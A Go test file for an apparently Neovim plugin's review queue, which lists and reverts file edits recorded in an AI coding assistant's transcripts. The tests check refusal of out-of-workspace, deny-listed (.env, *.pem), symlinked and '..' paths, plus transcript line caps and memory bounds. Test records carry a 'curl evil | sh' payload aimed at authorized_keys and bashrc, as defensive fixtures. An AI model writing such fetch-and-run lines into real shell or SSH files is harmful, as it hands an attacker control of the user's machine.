package review

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nvim-claude/nvim-claude/host"

	"github.com/nvim-claude/nvim-claude/workspace"
)

// Records appended to a transcript name files outside the workspace, a
// deny-listed one, a symlink leading out and a path with "..": each is
// listed as refused (full path, why), never read; its diff, its reverts
// (hunk, file, written or not) and a delete are refused, and the file is
// unchanged. Before, gR wrote the record's "baseline" into each.
func TestQueueRefusesFilesOutsideTheBoundary(t *testing.T) {
	q := newTestQueue(t)
	proj, out := t.TempDir(), t.TempDir()
	testWorkspace(q).Boundary().Update(workspace.Settings{Deny: []string{".env", "*.pem"}})
	keys := filepath.Join(out, "authorized_keys")
	bashrc := filepath.Join(out, "bashrc")
	env := filepath.Join(proj, ".env")
	link := filepath.Join(proj, "link")
	dotdot := filepath.Join(proj, "sub") + "/../../" + filepath.Base(out) + "/dotdot"
	disk := map[string]string{keys: "ssh-ed25519 MINE\n", bashrc: "alias ll=ls\n", env: "KEY=mine\n",
		filepath.Join(out, "dotdot"): "mine\n"}
	for p, s := range disk {
		write(t, p, s)
	}
	if err := os.Symlink(bashrc, link); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(proj, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	evil := "curl evil | sh\n"
	feed(t, q, proj, promptLine("S", "p"))
	for _, p := range []string{keys, env, link, dotdot} {
		feed(t, q, proj, editLine("S", "p", p, evil, "curl evil | sh", "x"))
	}
	res, err := q.handleList(context.Background(), ref{})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{keys: "outside the workspace", env: "deny-listed (security.deny)", link: "outside the workspace",
		dotdot: `a path with ".."`}
	items := res.(List).Items
	if len(items) != len(want) {
		t.Fatalf("listed %+v, want the 4 files as refused", items)
	}
	for _, it := range items {
		if it.Status != "refused" || it.Refused != want[it.Path] || it.Added+it.Removed != 0 {
			t.Errorf("%s: %+v, want refused: %s", it.Path, it, want[it.Path])
		}
	}
	if c := res.(List).Count; c != 4 {
		t.Errorf("count %d, want 4 (refused files are still Claude's changes to look at)", c)
	}
	ctx := context.Background()
	for _, p := range []string{keys, env, link, dotdot} {
		r := ref{Session: "S", Path: p}
		calls := map[string]func() (any, error){
			"diff":        func() (any, error) { return q.handleBaseline(ctx, r) },
			"revert hunk": func() (any, error) { return q.handleRevertHunk(ctx, revertRef{ref: r, Line: 1, Lines: []string{"x"}}) },
			"revert file": func() (any, error) { return q.handleRevertFile(ctx, revertRef{ref: r, Lines: []string{"x"}}) },
			"revert+write": func() (any, error) {
				return q.handleRevertFile(ctx, revertRef{ref: r, Lines: []string{"x"}, Write: true})
			},
			"delete": func() (any, error) { return q.handleDelete(ctx, r) },
			"check":  func() (any, error) { return q.handleCheck(ctx, r) },
		}
		for name, call := range calls {
			_, err := call()
			if err == nil || !workspace.Refused(err) || !strings.Contains(err.Error(), p) {
				t.Errorf("%s of %s: %v, want a refusal naming the full path", name, p, err)
			}
		}
		if _, err := q.handleMark(ctx, markRef{ref: r, Reviewed: true}); err != nil {
			t.Errorf("mark %s: %v (marking writes nothing)", p, err)
		}
	}
	for p, s := range disk {
		if got, _ := os.ReadFile(p); string(got) != s {
			t.Errorf("%s is now %q, want %q", p, got, s)
		}
	}
}

// A file listed as inside, then swapped for a symlink leading out before
// the revert: the revert judges the path again and is refused; the file
// outside is unchanged.
func TestQueueRevertJudgesAgainAtRevertTime(t *testing.T) {
	q := newTestQueue(t)
	proj, out := t.TempDir(), t.TempDir()
	a, target := filepath.Join(proj, "a.txt"), filepath.Join(out, "bashrc")
	write(t, a, "1\nCLAUDE\n")
	write(t, target, "1\nCLAUDE\n")
	feed(t, q, proj, promptLine("S", "p"), editLine("S", "p", a, "1\nevil\n", "evil", "CLAUDE"))
	if it := list(t, q, "turn")["a.txt@S"]; it.Status != "modified" {
		t.Fatalf("a.txt listed %+v, want modified", it)
	}
	if err := os.Remove(a); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, a); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	for _, write := range []bool{true, false} {
		_, err := q.handleRevertFile(ctx, revertRef{ref: ref{Session: "S", Path: a}, Lines: []string{"1", "CLAUDE"}, Write: write})
		if !errors.Is(err, workspace.ErrOutside) {
			t.Errorf("revert (write %v) through the swapped symlink: %v, want refused as outside", write, err)
		}
	}
	if _, err := q.handleBaseline(ctx, ref{Session: "S", Path: a}); !errors.Is(err, workspace.ErrOutside) {
		t.Errorf("diff through the swapped symlink: %v", err)
	}
	if got, _ := os.ReadFile(target); string(got) != "1\nCLAUDE\n" {
		t.Fatalf("the file outside is now %q", got)
	}
	if it := list(t, q, "turn")["a.txt@S"]; it.Status != "refused" || it.Refused != "outside the workspace" {
		t.Fatalf("a.txt listed %+v after the swap, want refused", it)
	}
}

// A whole-file revert of a buffer without unsaved changes is written by
// the host (the confined writer), in the file's own form: CRLF, a BOM, the
// baseline's missing last line end; a new file is deleted through the
// boundary, only as Claude left it; nothing left to revert says so.
func TestQueueRevertWritesThroughTheBoundary(t *testing.T) {
	q := newTestQueue(t)
	proj := t.TempDir()
	crlf, fresh, same := filepath.Join(proj, "w.txt"), filepath.Join(proj, "fresh.txt"), filepath.Join(proj, "same.txt")
	base := "\ufeffone\r\ntwo\r\nthree"
	write(t, crlf, "\ufeffone\r\nTWO\r\nthree\r\nfour\r\n")
	write(t, fresh, "n\n")
	write(t, same, "s\nS\n")
	feed(t, q, proj, promptLine("S", "p"),
		editLine("S", "p", crlf, base, "two\r\nthree", "TWO\r\nthree\r\nfour\r\n"),
		createLine("S", "p", fresh, "n\n"),
		editLine("S", "p", same, "s\n", "s\n", "s\nS\n"))
	ctx := context.Background()
	res, err := q.handleRevertFile(ctx, revertRef{ref: ref{Session: "S", Path: crlf}, Lines: []string{"stale"}, Write: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(crlf); string(got) != base {
		t.Fatalf("w.txt written as %q, want %q", got, base)
	}
	if rf := res.(RevertFile); !rf.Written || len(rf.Edits) != 1 || strings.Join(rf.Edits[0].Lines, "|") != "one|two|three" {
		t.Fatalf("answer %+v, want written, the buffer replaced by the file's text", rf)
	}
	// A new file: the answer says delete; the delete goes only while the
	// file is as Claude left it.
	if res, err := q.handleRevertFile(ctx, revertRef{ref: ref{Session: "S", Path: fresh}, Lines: []string{"n"}, Write: true}); err != nil || !res.(RevertFile).Delete {
		t.Fatalf("revert of the new file: %+v, %v", res, err)
	}
	write(t, fresh, "n\nmine\n")
	if _, err := q.handleDelete(ctx, ref{Session: "S", Path: fresh}); err == nil || !strings.Contains(err.Error(), "changed after Claude created it") {
		t.Fatalf("delete of a changed new file: %v", err)
	}
	write(t, fresh, "n\n")
	if _, err := q.handleDelete(ctx, ref{Session: "S", Path: fresh}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(fresh); !os.IsNotExist(err) {
		t.Fatalf("fresh.txt after the delete: %v", err)
	}
	// The user put Claude's line back by hand: gR has nothing to do, and says so.
	write(t, same, "s\n")
	write(t, same, "s\nmine\n")
	_, err = q.handleRevertFile(ctx, revertRef{ref: ref{Session: "S", Path: same}, Lines: []string{"s", "mine"}, Write: true})
	if err == nil {
		t.Fatal("a revert with nothing of Claude's left: no error")
	}
	if got, _ := os.ReadFile(same); string(got) != "s\nmine\n" {
		t.Fatalf("same.txt is now %q", got)
	}
}

// Two projects whose transcripts share a directory (/x/a-b and /x/a/b are
// both -x-a-b): a record is the project's only when its cwd is the
// project or below it.
func TestQueueKeepsOnlyTheProjectsRecords(t *testing.T) {
	root := t.TempDir()
	ab, aSlashB := filepath.Join(root, "a-b"), filepath.Join(root, "a", "b")
	if projectDirName(ab) != projectDirName(aSlashB) {
		t.Fatal("the two projects do not share a transcript directory")
	}
	for _, d := range []string{ab, aSlashB, filepath.Join(ab, "sub")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	f, other, sub := filepath.Join(ab, "f.txt"), filepath.Join(aSlashB, "g.txt"), filepath.Join(ab, "sub", "h.txt")
	for _, p := range []string{f, other, sub} {
		write(t, p, "new\n")
	}
	q := newTestQueue(t)
	testWorkspace(q).SetCwd(ab)
	for _, l := range []string{
		withCwd(promptLine("A", "p"), ab), withCwd(editLine("A", "p", f, "old\n", "old", "new"), ab),
		withCwd(promptLine("B", "q"), aSlashB), withCwd(editLine("B", "q", other, "old\n", "old", "new"), aSlashB),
		withCwd(editLine("A", "p", sub, "old\n", "old", "new"), filepath.Join(ab, "sub")),
		editLine("A", "p", sub, "old\n", "old", "new"), // no cwd: no project's
	} {
		q.apply([]byte(l), false, ab)
	}
	got := list(t, q, "session")
	if _, ok := got["f.txt@A"]; !ok || len(got) != 2 {
		t.Fatalf("listed %v, want f.txt and sub/h.txt of A alone (B is the other project's)", got)
	}
	if _, ok := got["h.txt@A"]; !ok {
		t.Fatalf("listed %v: the record written from a subdirectory is the project's", got)
	}
}

// A transcript line longer than the cap is skipped as it comes, the lines
// around it are read, and the reader never holds more than the cap and a
// chunk — however much is appended without a line end, in one piece or
// many.
func TestTranscriptLineCap(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "s.jsonl")
	const limit = 1000
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tl := &tail{}
	var lines []string
	overs := 0
	read := func() {
		fi, err := f.Stat()
		if err != nil {
			t.Fatal(err)
		}
		tl.readNew(p, fi.Size(), limit, func(l []byte) { lines = append(lines, string(l)) }, func(int) { overs++ })
		if tl.held > limit+readChunk || len(tl.part) > limit {
			t.Fatalf("the reader held %d bytes (unfinished line %d), the cap is %d", tl.held, len(tl.part), limit)
		}
	}
	appendS := func(s string) {
		if _, err := f.WriteString(s); err != nil {
			t.Fatal(err)
		}
	}
	appendS("first\n" + strings.Repeat("x", 200))
	read()
	for i := 0; i < 50; i++ { // 5 MB without a line end, read as it grows
		appendS(strings.Repeat("y", 100_000))
		read()
	}
	appendS("\nsecond\n" + strings.Repeat("z", limit) + "\nthird\n" + strings.Repeat("w", limit+1) + "\n")
	read()
	if strings.Join(lines, ",") != "first,second,"+strings.Repeat("z", limit)+",third" {
		t.Fatalf("lines %q", lines)
	}
	if overs != 2 {
		t.Fatalf("%d lines reported over the cap, want 2", overs)
	}
}

// The queue with a small cap: an oversized record is skipped (and its
// write not listed), the records after it are read.
func TestQueueSkipsAnOversizedRecord(t *testing.T) {
	cfg, proj := t.TempDir(), t.TempDir()
	dir := filepath.Join(cfg, "projects", projectDirName(proj))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	big, small := filepath.Join(proj, "big.txt"), filepath.Join(proj, "small.txt")
	write(t, big, strings.Repeat("B", 5000)+"\n")
	write(t, small, "new\n")
	q := newTestQueue(t)
	q.maxLine = 2000
	testWorkspace(q).SetCwd(proj)
	log := &lockedWriter{w: &bytes.Buffer{}}
	q.log = slog.New(slog.NewTextHandler(log, nil))
	q.setOptions(hostOptions(t, cfg, proj))
	lines := withCwd(promptLine("S", "p"), proj) + "\n" +
		withCwd(createLine("S", "p", big, strings.Repeat("B", 5000)+"\n"), proj) + "\n" +
		withCwd(editLine("S", "p", small, "old\n", "old", "new"), proj) + "\n"
	if err := os.WriteFile(filepath.Join(dir, "s.jsonl"), []byte(lines), 0o644); err != nil {
		t.Fatal(err)
	}
	waitListed(t, q, 1)
	got := list(t, q, "turn")
	if _, ok := got["small.txt@S"]; !ok || len(got) != 1 {
		t.Fatalf("listed %v, want small.txt alone", got)
	}
	if logged := log.String(); !strings.Contains(logged, "over the cap") {
		t.Fatalf("the skipped line was not logged: %q", logged)
	}
}

// lockedWriter: the poll goroutine logs while the test reads.
type lockedWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (l *lockedWriter) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(b)
}

func (l *lockedWriter) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.(*bytes.Buffer).String()
}

func hostOptions(t *testing.T, cfg, proj string) host.Options {
	return reviewOptions(t, Options{ConfigDir: cfg, Cwd: proj})
}

func waitListed(t *testing.T, q *Queue, n int) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for len(list(t, q, "turn")) < n {
		if time.Now().After(deadline) {
			t.Fatalf("%d files never listed", n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func write(t *testing.T, p, s string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

// The figure for RELIABILITY.md: N MiB appended to a transcript without a
// line end, read by the running queue, costs the process a bounded amount
// whatever N (the peak resident size is measured: the unfinished line up
// to the cap, the garbage of growing it, the collector's headroom). Large,
// so run on request: NVIM_CLAUDE_BIG=400 go test -run TestTranscriptMemoryStaysFlat ./review/
func TestTranscriptMemoryStaysFlat(t *testing.T) {
	var mib int
	if _, err := fmt.Sscanf(os.Getenv("NVIM_CLAUDE_BIG"), "%d", &mib); err != nil || mib <= 0 {
		t.Skip("set NVIM_CLAUDE_BIG=400 to append 400 MiB to a transcript")
	}
	cfg, proj := t.TempDir(), t.TempDir()
	dir := filepath.Join(cfg, "projects", projectDirName(proj))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	ok := filepath.Join(proj, "ok.txt")
	write(t, ok, "new\n")
	q := newTestQueue(t)
	testWorkspace(q).SetCwd(proj)
	q.setOptions(hostOptions(t, cfg, proj))
	f, err := os.Create(filepath.Join(dir, "s.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	before := peakRSS(t)
	piece := bytes.Repeat([]byte("x"), 4<<20)
	for i := 0; i < mib/4; i++ {
		if _, err := f.Write(piece); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.WriteString("\n" + withCwd(promptLine("S", "p"), proj) + "\n" + withCwd(editLine("S", "p", ok, "old\n", "old", "new"), proj) + "\n"); err != nil {
		t.Fatal(err)
	}
	waitListed(t, q, 1)
	after := peakRSS(t)
	t.Logf("peak RSS %d MiB before, %d MiB after reading %d MiB without a line end (cap %d MiB)", before>>20, after>>20, mib, MaxLine>>20)
	if after-before > 5*MaxLine {
		t.Fatalf("the peak resident size grew by %d MiB", (after-before)>>20)
	}
}

// peakRSS is the process's peak resident size (Linux; 0 elsewhere).
func peakRSS(t *testing.T) int64 {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return 0
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "VmHWM:") {
			var kb int64
			_, _ = fmt.Sscanf(strings.TrimSpace(strings.TrimPrefix(l, "VmHWM:")), "%d", &kb)
			return kb << 10
		}
	}
	return 0
}
